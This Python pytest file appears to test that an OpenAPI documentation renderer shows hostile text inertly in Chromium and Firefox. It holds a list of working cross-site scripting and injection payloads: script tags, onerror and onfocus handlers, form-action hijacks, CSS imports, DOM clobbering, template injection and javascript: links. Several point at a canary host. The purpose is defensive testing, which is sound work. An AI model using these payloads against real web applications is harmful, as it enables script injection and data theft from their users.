"""Hostile text in every place of a description, in two real browsers (THREATS R1 to R9, R12, R13, R15): no script runs, no
request leaves, the policy has nothing to refuse, and no element comes from the text."""

import json
import urllib.parse

import pytest

CANARY = "canary.invalid"
PAYLOADS = {
    "script": "<script>window.pwned = 1</script>",
    "image": f"\"><img src=//{CANARY}/x onerror=window.pwned=1>",
    "attribute": "' autofocus onfocus='window.pwned=1' x='",
    "close": f"</title></textarea></script></style><svg onload=window.pwned=1><iframe src=//{CANARY}/f>",
    "form": f"<form id=authorize action=//{CANARY}/><input form=authorize name=server><button formaction=//{CANARY}/>",
    "style": f"<style>@import url(//{CANARY}/s);</style><p style='background:url(//{CANARY}/b)'>",
    "clobber": "<a id=config name=url href=x></a><a id=document name=location></a>",
    "template": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 7*7 %>",
    "image-link": f"![x](http://{CANARY}/i.png) [y](javascript:window.pwned=1) [z](data:text/html,<script>)",
    "entity": "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    "comment": "--> ]]> \u2028\u2029 <!--<script> \u202egnp",
    "base": f"<base href=//{CANARY}/><meta http-equiv=refresh content='0;url=//{CANARY}/m'><link rel=stylesheet href=//{CANARY}/l>",
}
ELEMENTS = set(
    """html head meta title link script body main nav header footer aside section article search div p pre blockquote figure
    ul ol li dl dt dd menu a span b strong i em u s del ins small mark sub sup code kbd samp bdi time table caption thead tbody
    tfoot tr th td form fieldset legend label button select optgroup option textarea input output datalist details summary
    dialog template noscript svg path use g circle rect line title desc h1 h2 h3 h4 h5 h6 hr br img abbr wbr var q cite""".split())


def description(text):
    """The payload in every place of a description that takes free text."""
    schema = {
        "title": text, "description": text, "type": "object", "required": [text],
        "properties": {text: {"type": "string", "description": text, "default": text, "format": text, "pattern": text,
                              "enum": [text], "x-enum-descriptions": [text], "examples": [text], "deprecated": True}},
        "externalDocs": {"url": text, "description": text}, "xml": {"name": text, "namespace": text, "prefix": text},
    }
    media = {"application/json": {"schema": {"$ref": "#/components/schemas/S"}, "examples": {
        text: {"summary": text, "description": text, "value": {text: text}}}}, text: {"example": text}}
    parameters = [{"name": f"{place} {text}", "in": place, "description": text, "example": text, "schema": {
        "type": "string", "default": text, "enum": [text]}} for place in ("query", "header", "cookie")]
    operation = {
        "operationId": "hostile", "tags": [text], "summary": text, "description": text, "parameters": parameters,
        "externalDocs": {"url": text, "description": text}, "requestBody": {"description": text, "content": media},
        "responses": {"200": {"description": text, "content": media, "headers": {
            text: {"description": text, "schema": {"type": "string"}}}, "links": {
                text: {"operationId": text, "description": text, "parameters": {text: text}}}}},
        "callbacks": {text: {text: {"post": {"summary": text, "responses": {"200": {"description": text}}}}}},
        "x-codeSamples": [{"lang": text, "label": text, "source": text}], "x-badges": [{"name": text, "color": text}],
    }
    return {
        "openapi": "3.1.0",
        "info": {"title": text, "version": text, "summary": text, "description": text, "termsOfService": text,
                 "contact": {"name": text, "url": text, "email": text}, "license": {"name": text, "url": text},
                 "x-logo": {"url": text, "altText": text, "href": text}},
        "servers": [{"url": "https://api.example/{v}", "description": text, "variables": {
            "v": {"default": text, "description": text, "enum": [text]}}}],
        "tags": [{"name": text, "description": text, "x-displayName": text}], "x-tagGroups": [{"name": text, "tags": [text]}],
        "security": [{"key": []}], "paths": {f"/a/{text}": {"post": operation}},
        "webhooks": {text: {"post": {"summary": text, "responses": {"200": {"description": text}}}}},
        "components": {"schemas": {"S": schema, text: schema}, "securitySchemes": {
            "key": {"type": "apiKey", "in": "header", "name": text, "description": text},
            text: {"type": "http", "scheme": text, "description": text}}},
    }


@pytest.fixture(scope="module")
def hostile(serve, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    for name, text in PAYLOADS.items():
        (folder / f"{name}.json").write_text(json.dumps(description(text)))
    return serve(*[str(folder / f"{name}.json") for name in PAYLOADS])


def judge(evaluate):
    found = evaluate("""() => ({
        names: [...new Set([...document.querySelectorAll('*')].map(element => element.localName))],
        handlers: [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
            .filter(attribute => /^on/i.test(attribute.name) || ['style', 'srcdoc'].includes(attribute.name))
            .map(attribute => `${element.localName} ${attribute.name}`)),
        links: [...document.querySelectorAll('a[href]')].map(link => link.protocol),
        sources: [...document.querySelectorAll('[src]')].map(element => new URL(element.src, location).origin),
        actions: [...document.querySelectorAll('[action], [formaction]')].map(element =>
            new URL(element.getAttribute('formaction') ?? element.getAttribute('action'), location).origin),
        clobbered: [...document.querySelectorAll('[id=config], [id=document], [name=location]')].length,
        pwned: window.pwned ?? null, origin: location.origin})""")
    assert found["pwned"] is None
    assert set(found["names"]) <= ELEMENTS, set(found["names"]) - ELEMENTS
    assert found["handlers"] == []
    assert set(found["links"]) <= {"http:", "https:", "mailto:"}, found["links"]
    assert set(found["sources"]) <= {found["origin"]}
    assert set(found["actions"]) <= {found["origin"]}
    assert found["clobbered"] == 0


def foreign_host(address):
    return urllib.parse.urlsplit(address).hostname not in ("portico.localhost", None)


def visit(goto, evaluate, site, name):
    """Every page of the description that is one payload all over."""
    base = f"{site.url}/{name}"
    assert goto(base) == 200
    judge(evaluate)
    within = evaluate("() => [...new Set([...document.querySelectorAll('a[href]')].map(link => link.href.split('#')[0]))]")
    own = [link for link in within if link.startswith(base + "/")]
    others = [f"{base}/problems", f"{base}/authorize", f"{base}/search?q={urllib.parse.quote(PAYLOADS[name])}"]
    visited = 0
    for address in sorted(set(own + others)):
        if "/description" in address:
            continue
        assert goto(address) == 200, address
        judge(evaluate)
        visited += 1
    assert visited >= 5


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_stays_text(hostile, page, name):
    """R1, R2, R3, R4, R5, R6, R7, R8, R12, R13, R15: in Chromium."""
    foreign = []
    page.on("request", lambda request: foreign.append(request.url) if foreign_host(request.url) else None)
    page.on("dialog", lambda dialog: foreign.append(f"dialog {dialog.message}"))
    visit(lambda address: page.goto(address).status, page.evaluate, hostile, name)
    assert foreign == []


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_stays_text_in_a_second_browser(hostile, firefox, name):
    """R1, R2, R3, R4, R5, R6, R7, R8, R12, R13, R15: in Firefox."""
    firefox.requests.clear()

    def evaluate(function):
        assert firefox.evaluate("() => window.violations") == []
        return firefox.evaluate(function)

    visit(firefox.goto, evaluate, hostile, name)
    assert any(f"/{name}" in address for address in firefox.requests)
    assert [address for address in firefox.requests if foreign_host(address)] == []
    assert firefox.prompts == []


@pytest.mark.parametrize("query", [
    "url=https://{c}/x.json", "configUrl=https://{c}/c.json", "urls.primaryName=x", "validatorUrl=https://{c}", "spec=//{c}",
    "config=https://{c}", "theme=https://{c}/t.css", "docExpansion=full", "oauth2RedirectUrl=https://{c}", "server=https://{c}",
    "href=javascript:alert(1)", "src=https://{c}", "definition=https://{c}", "spec-url=https://{c}", "q=%3Cscript%3E",
])
def test_no_query_chooses_a_description(portico, page, query):
    """R9: the page of a trusted host cannot be made to show or fetch another's description."""
    foreign = []
    page.on("request", lambda request: foreign.append(request.url) if foreign_host(request.url) else None)
    page.goto(f"{portico.url}/fleet")
    title = page.title()
    page.goto(f"{portico.url}/fleet?" + query.replace("{c}", CANARY))
    assert page.title() == title
    assert foreign == []
    assert CANARY not in page.evaluate("[...document.querySelectorAll('[action], [src]')].map(e => e.action ?? e.src).join()")
